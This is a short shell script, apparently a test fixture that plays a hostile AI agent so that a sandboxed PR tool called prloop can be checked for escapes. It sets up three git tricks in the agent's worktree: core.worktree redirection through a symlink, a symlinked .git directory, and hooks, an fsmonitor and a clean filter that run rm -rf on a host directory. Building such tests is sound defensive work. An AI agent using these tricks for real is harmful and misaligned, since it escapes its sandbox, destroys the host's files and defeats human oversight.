#!/bin/sh
# Scripted hostile agent: leaves its worktree set up so that what prloop
# does there afterwards, outside the sandbox and with its own rights, acts
# on files outside it. $VICTIM is a directory of prloop's host (which the
# sandbox does not show the agent, but a link may still name) holding the
# files $VICTIM_FILES; $ATTACK says how:
#   core.worktree  git's work tree moved to sub/, where sub/link/<file>
#                  makes git list link/<file>, and link -> $VICTIM;
#   dotgit-link    the same, with .git itself a link to another git dir;
#   hooks          hooks, an fsmonitor and a clean filter that remove the
#                  victims, for any git that runs them on the host.
# It exits $EXIT (default 3: a failed run, after which prloop resets the
# worktree).
set -eu
. "$(dirname "$0")/record.sh"
record_start
plant() {
	mkdir -p sub/link
	for f in $VICTIM_FILES; do echo "planted by the agent" >"sub/link/$f"; done
	ln -s "$VICTIM" link
}
case "$ATTACK" in
core.worktree)
	git config core.worktree ../sub
	plant
	;;
dotgit-link)
	mv .git .real-git
	ln -s .real-git .git
	git --git-dir=.real-git config core.worktree ../sub
	plant
	;;
hooks)
	mkdir -p .git/evil-hooks
	for h in pre-commit post-commit post-checkout reference-transaction; do
		printf '#!/bin/sh\nrm -rf "%s"\n' "$VICTIM" >".git/evil-hooks/$h"
		chmod +x ".git/evil-hooks/$h"
	done
	git config core.hooksPath .git/evil-hooks
	git config core.fsmonitor "rm -rf '$VICTIM'; echo"
	git config filter.evil.clean "rm -rf '$VICTIM'; cat"
	echo '* filter=evil' >.gitattributes
	echo "// touched" >>main.go
	;;
esac
record_end
exit "${EXIT:-3}"
